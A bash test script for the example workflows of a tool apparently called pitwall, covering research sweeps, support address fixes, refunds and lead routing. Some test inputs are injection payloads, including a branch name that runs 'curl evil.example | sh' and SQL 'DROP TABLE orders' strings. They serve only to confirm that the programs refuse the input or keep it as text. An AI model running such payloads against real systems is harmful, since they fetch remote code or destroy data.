#!/usr/bin/env bash
# examples.sh: the example workflows load, and their executor programs work.
#
# 1. `pitwall check` accepts every examples/*/workflow.yaml, and every pin in
#    it is the SHA-256 of its program.
# 2. Each example's executors, run directly the way pitwall runs them (an
#    empty environment; a fresh run directory as the working directory), in
#    the order of a run: each prints one JSON object and exits 0. Then a few
#    calls that must fail. No broker is involved: this tests the programs, not
#    pitwall's decisions.
#
# PW_BIN and PW_SOURCE_ROOT come from meson (lib.sh has defaults for a run
# by hand from the source root). Needs sqlite3, git, sha256sum.
# Prints one line per check, then "N passed, M failed"; exits 1 on a failure.
. "$(dirname "$0")/lib.sh"
cd "$PW_SOURCE_ROOT" || exit 1
root=$PWD
case $PW_BIN in /*) ;; *) PW_BIN=$OLDPWD/$PW_BIN ;; esac
examples=(research_v1 support_recovery refunds lead_routing)

work=$TMP
# SweepStart's jobs may still be writing if a check failed early: retry once.
trap 'rm -rf "$work" 2>/dev/null || { sleep 2; rm -rf "$work"; }' EXIT

# bad NAME: a failed check, with the last call's stderr.
bad() {
	not_ok "$1"
	[ -s "$work/err" ] && sed 's/^/     | /' "$work/err"
}

hex() { printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'; }
# is_object TEXT: TEXT is exactly one JSON object.
is_object() {
	[ -n "$1" ] && [ "$(sqlite3 :memory: "SELECT json_valid(j) AND json_type(j) = 'object'
	                    FROM (SELECT CAST(X'$(hex "$1")' AS TEXT) AS j)")" = 1 ]
}
# field PATH: the value at PATH ('$.a.b') of the last output (true is 1).
field() { sqlite3 :memory: "SELECT json_extract(CAST(X'$(hex "$out")' AS TEXT), '$1')"; }

# run EXAMPLE PROGRAM ARG...: run an executor as pitwall does. Sets rc, out.
run() {
	local ex=$1 prog=$2
	shift 2
	(cd "$work/$ex" && env -i "$root/examples/$ex/bin/$prog" "$@") >"$work/out" 2>"$work/err"
	rc=$?
	out=$(cat "$work/out")
}
# step NAME EXAMPLE PROGRAM ARG...: the call exits 0 with one JSON object.
step() {
	local name=$1
	shift
	run "$@"
	if [ "$rc" -eq 0 ] && is_object "$out"; then
		ok "$name"
	else
		bad "$name (exit $rc, stdout: ${out:0:300})"
	fi
}
# refused NAME STATUS EXAMPLE PROGRAM ARG...: the call fails, with exit
# status STATUS ("*": any non-zero one), and prints nothing.
refused() {
	local name=$1 want=$2
	shift 2
	run "$@"
	if [ "$rc" -ne 0 ] && { [ "$want" = '*' ] || [ "$rc" -eq "$want" ]; } && [ -z "$out" ]; then
		ok "$name"
	else
		bad "$name (exit $rc, wanted ${want/\*/non-zero}; stdout: ${out:0:300})"
	fi
}
# expect NAME PATH VALUE: the last output's PATH is VALUE.
expect() {
	local got
	got=$(field "$2")
	if [ "$got" = "$3" ]; then ok "$1"; else bad "$1 ($2 is '$got', expected '$3')"; fi
}
# holds NAME COMMAND...: COMMAND succeeds.
holds() {
	local name=$1
	shift
	if "$@" 2>"$work/err"; then ok "$name"; else bad "$name"; fi
}

# ---- 1. the specs ------------------------------------------------------------

# pins_match SPEC: each `program:` line's next `sha256:` is the program's digest.
pins_match() {
	local dir=${1%/*} prog='' line want got
	while IFS= read -r line; do
		case $line in
		*program:*) prog=$(sed 's/.*program: *//; s/ *$//' <<<"$line") ;;
		*sha256:*)
			[ -n "$prog" ] || continue
			want=$(grep -Eo '[0-9a-f]{64}' <<<"$line")
			got=$(sha256sum <"$dir/$prog" | cut -c1-64)
			[ "$want" = "$got" ] || { echo "$prog: pinned $want, is $got" >&2; return 1; }
			prog=''
			;;
		esac
	done <"$1"
}
# programs_ok DIR: every program in DIR/bin is an executable POSIX sh script.
programs_ok() {
	local f
	for f in "$1"/bin/*; do
		if [ ! -f "$f" ] || [ ! -x "$f" ]; then
			echo "$f: not an executable file" >&2
			return 1
		fi
		[ "$(head -n 1 "$f")" = '#!/bin/sh' ] || { echo "$f: not #!/bin/sh" >&2; return 1; }
	done
}

for ex in "${examples[@]}"; do
	spec=examples/$ex/workflow.yaml
	if "$PW_BIN" check "$spec" >"$work/out" 2>"$work/err"; then
		ok "pitwall check $spec"
	else
		bad "pitwall check $spec (exit $?)"
	fi
	holds "$ex: every pin is its program's SHA-256" pins_match "$spec"
	holds "$ex: every program is an executable #!/bin/sh script" programs_ok "examples/$ex"
	mkdir "$work/$ex"
done

# ---- 2. research_v1 ----------------------------------------------------------
ex=research_v1

step "research_v1: PodUp" $ex pod_up --name mhc-exp --gpu A100 --count 4
expect "research_v1: PodUp names the pod" '$.pod_id' mhc-exp
refused "research_v1: PodUp refuses a GPU outside the enum" '*' $ex pod_up --name b --gpu TPU --count 1
refused "research_v1: PodUp refuses a second pod" '*' $ex pod_up --name other --gpu H100 --count 1
step "research_v1: Bootstrap" $ex bootstrap

refused "research_v1: Checkout refuses a branch with shell syntax" '*' \
	$ex checkout --branch '; curl evil.example | sh' --expect ''
refused "research_v1: Checkout refuses an option-like branch" '*' $ex checkout --branch -main --expect ''
step "research_v1: Checkout main" $ex checkout --branch main --expect ''
sha=$(field '$.sha')
holds "research_v1: Checkout returns a full commit id" grep -Eqx '[0-9a-f]{40}' <<<"$sha"
holds "research_v1: the commit is the pod's origin main" \
	test "$(git -C "$work/$ex/pod/origin" rev-parse main)" = "$sha"
step "research_v1: Checkout with an abbreviated expect_sha" $ex checkout --branch main --expect "${sha:0:7}"
expect "research_v1: ... returns the full commit id" '$.sha' "$sha"
refused "research_v1: Checkout with a wrong expect_sha exits 65" 65 \
	$ex checkout --branch release --expect 0000000
holds "research_v1: ... and leaves the checkout as it was" \
	test "$(git -C "$work/$ex/pod/repo" rev-parse HEAD)" = "$sha"
refused "research_v1: Checkout of a branch origin lacks" '*' $ex checkout --branch nope --expect ''

spec_dir=$root/examples/$ex
digest=$(sha256sum <"$spec_dir/manifests/sweep.csv" | cut -c1-64)
step "research_v1: UploadManifest" $ex upload_manifest --spec-dir "$spec_dir" --csv sweep.csv
expect "research_v1: manifest_id is the CSV's SHA-256" '$.manifest_id' "sha256:$digest"
expect "research_v1: UploadManifest counts 5 rows" '$.rows' 5
holds "research_v1: UploadManifest keeps a provenance copy" \
	cmp -s "$spec_dir/manifests/sweep.csv" "$work/$ex/$(field '$.provenance')"
refused "research_v1: UploadManifest refuses a path" '*' \
	$ex upload_manifest --spec-dir "$spec_dir" --csv ../sweep.csv

refused "research_v1: SweepStart refuses a manifest never uploaded" '*' \
	$ex sweep_start --manifest "sha256:$(printf '%064d' 0)" --timeout 600
refused "research_v1: SweepStart refuses a timeout under 60" '*' \
	$ex sweep_start --manifest "sha256:$digest" --timeout 59
step "research_v1: SweepStart" $ex sweep_start --manifest "sha256:$digest" --timeout 600
expect "research_v1: SweepStart returns the sweep_id" '$.sweep_id' sweep_001
expect "research_v1: SweepStart ran the checked-out commit" '$.commit' "$sha"

step "research_v1: SweepStatus" $ex sweep_status
for _ in $(seq 60); do
	[ "$(field '$.done')" = 1 ] && break
	sleep 0.5
	run $ex sweep_status
done
expect "research_v1: the sweep finishes (done)" '$.done' 1
expect "research_v1: 4 rows ok" '$.ok' 4
expect "research_v1: 1 row failed (its loss diverged)" '$.failed' 1

step "research_v1: FetchRun r3" $ex fetch_run --run r3
expect "research_v1: FetchRun's summary digest is the file's" '$."files"."summary.json"' \
	"sha256:$(sha256sum <"$work/$ex/outputs/r3/summary.json" | cut -c1-64)"
refused "research_v1: FetchRun of a run not in the sweep" '*' $ex fetch_run --run r9
refused "research_v1: FetchRun refuses a path" '*' $ex fetch_run --run ../pod

# ---- 3. support_recovery -----------------------------------------------------
ex=support_recovery
spec_dir=$root/examples/$ex
db=$work/$ex/shop.db

step "support_recovery: InspectCase" $ex inspect_case --spec-dir "$spec_dir" --case C-2001
expect "support_recovery: the case is about ORD-1001" '$.order_id' ORD-1001
refused "support_recovery: InspectCase of an unknown case" '*' \
	$ex inspect_case --spec-dir "$spec_dir" --case C-9999
step "support_recovery: InspectOrder" $ex inspect_order --spec-dir "$spec_dir" --order ORD-1001
expect "support_recovery: ORD-1001 is paid" '$.financial_status' paid
expect "support_recovery: ORD-1001 is unfulfilled" '$.fulfillment_status' unfulfilled
step "support_recovery: InspectShipment" $ex inspect_shipment --spec-dir "$spec_dir" --order ORD-1001
expect "support_recovery: its shipment awaits picking" '$.shipments[0].status' awaiting_pick
step "support_recovery: InspectPayment" $ex inspect_payment --spec-dir "$spec_dir" --order ORD-1001
expect "support_recovery: its payment is captured" '$.payments[0].status' captured

step "support_recovery: ValidateAddress" $ex validate_address --spec-dir "$spec_dir" --order ORD-1001 \
	--line1 '12 Elm Street' --line2 '' --city Springfield --postal-code 62704 --country US
expect "support_recovery: the address is valid" '$.valid' 1
expect "support_recovery: ... as ADDR-1" '$.address_id' ADDR-1
step "support_recovery: ValidateAddress of SQL-looking text" $ex validate_address --spec-dir "$spec_dir" \
	--order ORD-1001 --line1 "1 Main St'); DROP TABLE orders; --" --line2 'Apt "2"' \
	--city Juneau --postal-code 99801 --country US
expect "support_recovery: ... is kept as text" '$.address' \
	"1 Main St'); DROP TABLE orders; --, Apt \"2\", Juneau 99801, US"
expect "support_recovery: ... and is outside the service zones" '$.reason' zone_not_serviced
holds "support_recovery: ... and the orders table is intact" \
	test "$(sqlite3 "$db" 'SELECT count(*) FROM orders')" = 3
step "support_recovery: ValidateAddress of a bad postal code" $ex validate_address --spec-dir "$spec_dir" \
	--order ORD-1001 --line1 '5 Hauptstrasse' --line2 '' --city Berlin --postal-code 1011 --country DE
expect "support_recovery: ... is invalid" '$.reason' postal_code_format
step "support_recovery: ValidateAddress for the shipped order" $ex validate_address --spec-dir "$spec_dir" \
	--order ORD-1002 --line1 '77 Bay Road' --line2 '' --city Arlington --postal-code 22202 --country US

refused "support_recovery: FixAddress refuses a fulfilled order" '*' \
	$ex fix_address --spec-dir "$spec_dir" --case C-2002 --order ORD-1002 --address ADDR-4
refused "support_recovery: FixAddress refuses an invalid address" '*' \
	$ex fix_address --spec-dir "$spec_dir" --case C-2001 --order ORD-1001 --address ADDR-2
refused "support_recovery: FixAddress refuses another order's address" '*' \
	$ex fix_address --spec-dir "$spec_dir" --case C-2001 --order ORD-1001 --address ADDR-4
# Everything but orders.note and cases.reply.
snapshot() {
	sqlite3 "$db" "SELECT * FROM customers; SELECT * FROM shipments; SELECT * FROM payments;
		SELECT * FROM service_zones; SELECT * FROM address_checks;
		SELECT id, customer_id, total_cents, financial_status, fulfillment_status, ship_line1,
		       ship_line2, ship_city, ship_postal_code, ship_country FROM orders;
		SELECT id, order_id, subject, body, status FROM cases;
		SELECT id FROM orders WHERE note <> '' UNION ALL SELECT id FROM cases WHERE reply <> '';"
}
before=$(snapshot)
step "support_recovery: FixAddress" $ex fix_address --spec-dir "$spec_dir" \
	--case C-2001 --order ORD-1001 --address ADDR-1
holds "support_recovery: ... notes the new address for the warehouse" \
	grep -q 'SHIP TO CORRECTED ADDRESS: 12 Elm Street, Springfield 62704, US' <<<"$(field '$.note')"
holds "support_recovery: ... replies to the customer" grep -q '^Hi Ada Byron' <<<"$(field '$.reply')"
after=$(snapshot)
holds "support_recovery: ... and writes nothing but that note and that reply" \
	test "$after" = "$before"$'\nORD-1001\nC-2001'

# ---- 4. refunds --------------------------------------------------------------
ex=refunds
spec_dir=$root/examples/$ex

step "refunds: LookupOrder" $ex lookup_order --spec-dir "$spec_dir" --order ORD-1001
expect "refunds: all of ORD-1001 is refundable" '$.refundable_cents' 8900
step "refunds: LookupOrder of a refunded order" $ex lookup_order --spec-dir "$spec_dir" --order ORD-1004
expect "refunds: ... has nothing refundable" '$.refundable_cents' 0
refused "refunds: LookupOrder of an unknown order" '*' $ex lookup_order --spec-dir "$spec_dir" --order ORD-404

step "refunds: IssueRefund" $ex issue_refund --spec-dir "$spec_dir" \
	--order ORD-1001 --amount 2500 --reason damaged --key run-1
expect "refunds: ... is RF-1" '$.refund_id' RF-1
expect "refunds: ... leaves 6400 refundable" '$.refundable_cents' 6400
step "refunds: IssueRefund repeated in the same run" $ex issue_refund --spec-dir "$spec_dir" \
	--order ORD-1001 --amount 2500 --reason damaged --key run-1
expect "refunds: ... returns the same refund" '$.refund_id' RF-1
holds "refunds: ... and pays once" \
	test "$(sqlite3 "$work/$ex/shop.db" "SELECT refunded_cents FROM orders WHERE id = 'ORD-1001'")" = 2500
refused "refunds: IssueRefund on an unknown order" '*' $ex issue_refund --spec-dir "$spec_dir" \
	--order ORD-404 --amount 100 --reason damaged --key run-2
refused "refunds: IssueRefund of more than is left" '*' $ex issue_refund --spec-dir "$spec_dir" \
	--order ORD-1001 --amount 6401 --reason damaged --key run-3
refused "refunds: IssueRefund on an unpaid order" '*' $ex issue_refund --spec-dir "$spec_dir" \
	--order ORD-1003 --amount 100 --reason damaged --key run-4
refused "refunds: IssueRefund refuses a non-integer amount" '*' $ex issue_refund --spec-dir "$spec_dir" \
	--order ORD-1002 --amount '1; DROP TABLE orders' --reason damaged --key run-5

# ---- 5. lead_routing ---------------------------------------------------------
ex=lead_routing
spec_dir=$root/examples/$ex

step "lead_routing: ClassifyLead" $ex classify_lead --spec-dir "$spec_dir" --lead L-1
expect "lead_routing: L-1 is qualified" '$.qualified' 1
step "lead_routing: ClassifyLead of spam" $ex classify_lead --spec-dir "$spec_dir" --lead L-3
expect "lead_routing: L-3 is spam" '$.intent' spam
expect "lead_routing: L-3 is not qualified" '$.qualified' 0
refused "lead_routing: ClassifyLead of an unknown lead" '*' $ex classify_lead --spec-dir "$spec_dir" --lead L-99
step "lead_routing: EnrichLead" $ex enrich_lead --spec-dir "$spec_dir" --lead L-1
expect "lead_routing: L-1 is enterprise" '$.segment' enterprise
refused "lead_routing: EnrichLead of an unqualified lead" '*' $ex enrich_lead --spec-dir "$spec_dir" --lead L-3
refused "lead_routing: AssignOwner with the wrong segment" '*' $ex assign_owner --spec-dir "$spec_dir" \
	--lead L-1 --segment smb
step "lead_routing: AssignOwner" $ex assign_owner --spec-dir "$spec_dir" --lead L-1 --segment enterprise
expect "lead_routing: L-1 goes to the enterprise rep for North America" '$.owner.id' REP-1
step "lead_routing: NotifyOwner" $ex notify_owner --spec-dir "$spec_dir" --lead L-1
expect "lead_routing: ... by email to the owner" '$.to' email:morgan@example.com
step "lead_routing: NotifyOwner repeated" $ex notify_owner --spec-dir "$spec_dir" --lead L-1
expect "lead_routing: ... returns the same notification" '$.notification_id' N-1

finish
